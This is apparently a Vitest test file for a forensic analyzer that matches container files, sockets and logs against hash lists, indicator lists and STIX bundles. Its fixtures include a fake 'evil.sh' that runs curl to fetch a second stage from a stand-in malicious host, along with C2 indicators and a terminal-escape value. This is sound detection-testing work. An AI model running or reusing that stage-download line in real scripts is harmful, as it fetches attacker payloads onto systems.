import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import lists from '../../../../src/main/analyze/analyzers/lists';
import { tarOf } from '../formats/tar-kit';
import { analyze, byRule, cited, framed, type Given, HOST, socketFrames, tcpRow, WEB } from '../kit';

const digest = (algorithm: string, text: string) => createHash(algorithm).update(text).digest('hex');
const EVIL = 'this is a dropper';
const IMAGE = `sha256:${'a'.repeat(64)}`;

const list = (kind: string, content: unknown): Given => ({
  collector: `import.${kind}`,
  content,
  kind: typeof content === 'string' ? 'text' : 'json',
  target: { ...HOST, id: 'imported:list', name: 'list' },
});

/** A container's export with the engine's list of what changed. */
const CONTAINER: Given[] = [
  { collector: 'container.inspect', content: { Image: IMAGE, Created: '2026-11-20T10:00:00Z' } },
  {
    collector: 'container.changes',
    content: [
      { Path: '/tmp/x', Kind: 1 },
      { Path: '/tmp/evil.sh', Kind: 1 },
    ],
  },
  {
    collector: 'container.export',
    kind: 'tar',
    content: tarOf([
      { name: 'tmp/', type: '5' },
      { name: 'tmp/x', body: EVIL },
      { name: 'tmp/evil.sh', body: 'curl http://cdn.bad.example/stage2?a=1 -o /tmp/x\n' },
      { name: 'etc/hosts', body: '127.0.0.1 localhost\n' },
    ]),
  },
];

const run = (...given: Given[]) => analyze(given, [lists]);

describe('digests', () => {
  it.each(['sha256', 'sha1', 'md5'])(
    'finds a file by its %s, cites its bytes and the line of the list',
    async (algorithm) => {
      const hex = digest(algorithm, EVIL);
      const given = [...CONTAINER, list('known-bad', `hash,name\r\n${hex.toUpperCase()},"Dropper, old"\r\n`)];
      const [finding, ...others] = byRule(await analyze(given, [lists]), 'list.known-bad');
      expect(others).toEqual([]);
      expect(finding).toMatchObject({ severity: 'critical', target: WEB });
      expect(finding?.claim).toContain('/tmp/x');
      expect(finding?.claim).toContain('Dropper, old');
      const places = await cited(given, finding as NonNullable<typeof finding>);
      expect(places).toContain(EVIL);
      expect(places).toContain(`${hex.toUpperCase()},"Dropper, old"`);
    },
  );

  it('finds nothing by the digest of another file, nor of an empty one', async () => {
    const text = [digest('sha256', 'other'), digest('sha256', ''), digest('md5', '')].join('\n');
    expect((await run(...CONTAINER, list('known-bad', text))).findings).toEqual([]);
  });

  it('finds a program by the digest that the host gave, and what was taken of a deleted one', async () => {
    const hex = 'ab'.repeat(32);
    const frames = framed('container.executables', [
      { pid: 7, name: 'exe.sha256', body: `${hex}  /proc/7/exe\n`, kind: 'output' },
    ]);
    const given: Given[] = [
      { collector: 'container.executables', content: frames, kind: 'frames' },
      { collector: 'container.open-deleted', content: EVIL, kind: 'binary' },
      list('known-bad', `${hex}  a.out\n${digest('sha256', EVIL)}  b.out\n`),
    ];
    const found = byRule(await analyze(given, [lists]), 'list.known-bad');
    expect(found.map(({ claim }) => /E000\d/.exec(claim)?.[0]).sort()).toEqual(['E0001', 'E0002']);
  });

  it('says which changed files a list of harmless ones knows', async () => {
    const found = await run(
      ...CONTAINER,
      list('known-good', `"SHA-256","FileName"\n"${digest('sha256', EVIL)}","x"\n`),
    );
    const [finding] = byRule(found, 'list.known-good');
    expect(finding?.severity).toBe('informational');
    expect(finding?.claim).toContain('knows 1 by their SHA-256: /tmp/x');
  });

  it('says of a list without a digest that it holds none', async () => {
    const { unreadable, findings } = await run(...CONTAINER, list('known-bad', 'hello\nworld\n'));
    expect(findings).toEqual([]);
    expect(unreadable.map(({ reason }) => reason).join()).toContain('holds no digest');
  });
});

describe('indicators', () => {
  const sockets: Given = {
    collector: 'container.sockets',
    content: socketFrames({ tcp: [tcpRow('10.0.0.2:40000', '203.0.113.9:4444', '01', 77)] }),
  };
  const log: Given = {
    collector: 'container.logs',
    kind: 'log',
    content: 'GET /?u=http://www.bad.example/x HTTP/1.1\nnotbad.example 203.0.113.99\n',
  };

  it('finds an address as the other end of a socket, where it stands in hex', async () => {
    const given = [sockets, list('indicators', 'type,value,comment\nip-dst,203[.]0[.]113[.]9,C2 of the group\n')];
    const [finding, ...others] = byRule(await analyze(given, [lists]), 'list.indicator');
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ severity: 'high', confidence: 'certain' });
    expect(finding?.claim).toContain('C2 of the group');
    const places = await cited(given, finding as NonNullable<typeof finding>);
    expect(places[0]).toMatch(/097100CB:115C 01/);
  });

  it('finds a domain and what is below it, not what only ends like it', async () => {
    const given = [log, list('indicators', 'bad.example\n')];
    const [finding] = byRule(await analyze(given, [lists]), 'list.indicator');
    expect(finding?.claim).toContain('stands once');
    expect(await cited(given, finding as NonNullable<typeof finding>)).toContain('bad.example');
  });

  it('does not take an address for another that begins like it', async () => {
    expect((await run(log, list('indicators', '203.0.113.9\n'))).findings).toEqual([]);
  });

  it('finds a URL only where the whole of it stands, in a file of the container', async () => {
    const yes = await run(...CONTAINER, list('indicators', 'hxxp://cdn.bad[.]example/stage2?a=1\n'));
    expect(byRule(yes, 'list.indicator')).toHaveLength(1);
    expect((await run(...CONTAINER, list('indicators', 'http://cdn.bad.example/stage3\n'))).findings).toEqual([]);
  });

  it('reads a bundle of STIX 2.1: patterns, revoked ones, joined ones, observables', async () => {
    const bundle = {
      type: 'bundle',
      objects: [
        {
          type: 'indicator',
          name: 'C2',
          pattern_type: 'stix',
          pattern: "[ipv4-addr:value = '203.0.113.9' OR domain-name:value = 'bad.example']",
        },
        { type: 'indicator', revoked: true, pattern: "[file:name = 'evil.sh']" },
        {
          type: 'indicator',
          pattern: `[file:name = 'evil.sh' AND file:hashes.'SHA-256' = '${digest('sha256', EVIL)}']`,
        },
        { type: 'indicator', pattern: "[process:command_line LIKE '%x%']" },
        { type: 'identity', name: 'somebody' },
      ],
    };
    const given = [sockets, log, ...CONTAINER, list('indicators', bundle)];
    const result = await analyze(given, [lists]);
    expect(
      byRule(result, 'list.indicator')
        .map(({ claim }) => /The (\w+) (\S+)/.exec(claim)?.slice(1).join(' '))
        .sort(),
    ).toEqual(['address 203.0.113.9', 'domain bad.example', 'domain bad.example']);
    expect(byRule(result, 'list.file-name')).toHaveLength(1);
    expect(byRule(result, 'list.known-bad').map(({ confidence }) => confidence)).toEqual(['possible']);
    expect(result.unreadable.map(({ reason }) => reason).join()).toContain('2 entries are of no kind');
  });

  it('says of broken JSON that it is none, and of loopback that it is no indicator', async () => {
    const broken = await run(log, list('indicators', '{"type":"bundle"'));
    expect(broken.unreadable.map(({ reason }) => reason).join()).toContain('is none');
    const everywhere = await run(
      { ...log, content: 'from 127.0.0.1 and ::1\n' },
      list('indicators', '127.0.0.1\n::1\n'),
    );
    expect(everywhere.findings).toEqual([]);
  });

  it('shows nothing of a list or of evidence as a terminal would take it', async () => {
    const { findings } = await run(log, list('indicators', 'value,comment\nbad.example,"\u001b]0;x\u0007"\n'));
    expect(findings).toHaveLength(1);
    expect(JSON.stringify(findings)).not.toMatch(/\\u001b|\\u0007/);
  });
});
